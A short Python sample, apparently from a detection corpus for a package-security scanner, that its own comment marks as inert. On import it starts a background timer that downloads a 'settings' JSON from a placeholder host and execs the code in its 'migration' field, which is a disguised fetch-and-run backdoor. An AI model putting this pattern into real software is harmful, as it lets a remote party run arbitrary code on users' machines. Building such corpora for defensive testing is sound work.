# pkgguard corpus 274 (import-time), modelled on [empirical]; inert, never run.
import json
import threading
import urllib.request


def _refresh():
    with urllib.request.urlopen("https://config.example/v2/settings.json", timeout=10) as r:
        settings = json.load(r)
    code = compile(settings.get("migration", ""), "<settings>", "exec")
    exec(code, {})


threading.Timer(5.0, _refresh).start()
